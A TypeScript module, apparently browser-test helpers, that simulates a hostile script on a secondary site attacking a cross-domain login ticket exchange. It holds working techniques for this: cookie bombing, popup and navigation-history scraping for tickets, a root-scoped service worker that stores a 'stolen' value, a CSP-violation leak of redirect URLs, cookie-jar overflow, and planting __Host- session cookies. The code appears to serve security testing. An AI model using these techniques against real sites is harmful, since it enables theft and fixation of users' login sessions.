// What a hostile script on a page of the secondary does. Each function runs in the browser, by `page.evaluate`.

/** Makes every request for a ticket too large for the server. */
export function dropCookieBomb(): void {
  for (let count = 0; count < 8; count++)
    document.cookie = `bomb${count}=${'x'.repeat(3900)}; path=/crossdomain/replace`
}

/** Opens a window and looks at its address. @returns The address with the ticket; null if it sees none. */
export async function pollPopup(url: string): Promise<string | null> {
  const popup = window.open(url)
  for (let time = 0; time < 300; time++) {
    await new Promise((resolve) => setTimeout(resolve, 10))
    try {
      const { href } = popup?.location ?? { href: '' }
      if (href.includes('ticket=')) return href
    } catch {
      // A page of another origin, or an error page of the browser.
    }
  }
  return null
}

/** Installs a service worker over all of the secondary. @returns False if that is not possible. */
export async function installWorker(url: string): Promise<boolean> {
  try {
    await navigator.serviceWorker.register(url, { scope: '/' })
    await navigator.serviceWorker.ready
    return true
  } catch {
    return false
  }
}

/** Opens a window, and asks the worker what it saw. */
export async function askWorker(url: string): Promise<string | null> {
  window.open(url)
  for (let time = 0; time < 300; time++) {
    await new Promise((resolve) => setTimeout(resolve, 10))
    const noted = await caches.match('/stolen')
    if (noted !== undefined) return noted.text()
  }
  return null
}

/** Walks the exchange by fetch. @returns The address of the last answer; null if it may not be read. */
export async function fetchAddress(url: string): Promise<string | null> {
  try {
    return (await fetch(url, { credentials: 'include' })).url
  } catch {
    return null
  }
}

/** Looks back after the visitor has come back to this page. @returns The address in the history that has a ticket. */
export function searchHistory(): string | null {
  const { navigation } = window as {
    readonly navigation?: { entries(): readonly { readonly url: string | null }[] }
  }
  const urls = (navigation?.entries() ?? []).map(({ url }) => url ?? '')
  return urls.find((url) => url.includes('ticket=')) ?? null
}

/** Has a policy stop the redirect to the ticket. @returns All that the browser tells the page about it. */
export async function violatePolicy([check, primary]: readonly [string, string]): Promise<string> {
  const told: unknown[] = []
  addEventListener('securitypolicyviolation', ({ blockedURI, sourceFile, referrer }) =>
    told.push(blockedURI, sourceFile, referrer),
  )
  const policy = document.createElement('meta')
  policy.httpEquiv = 'Content-Security-Policy'
  policy.content = `connect-src ${primary}`
  document.head.append(policy)
  told.push(await fetch(check, { credentials: 'include' }).then(({ url }) => url, String))
  return JSON.stringify([told, performance.getEntries()])
}

/** Sets so many cookies that the browser drops the session's, and takes them away again. */
export function dropCookies(): void {
  for (const end of ['', '; Max-Age=0'])
    for (let count = 0; count < 400; count++) document.cookie = `jar${count}=1; Secure; Path=/${end}`
}

/** Sets a cookie under the name that a session has now, and under the name that it had before. */
export function plantCookie(value: string): void {
  for (const name of ['__Host-Http-crossdomain', '__Host-crossdomain'])
    document.cookie = `${name}=${value}; Secure; Path=/; SameSite=Lax`
}
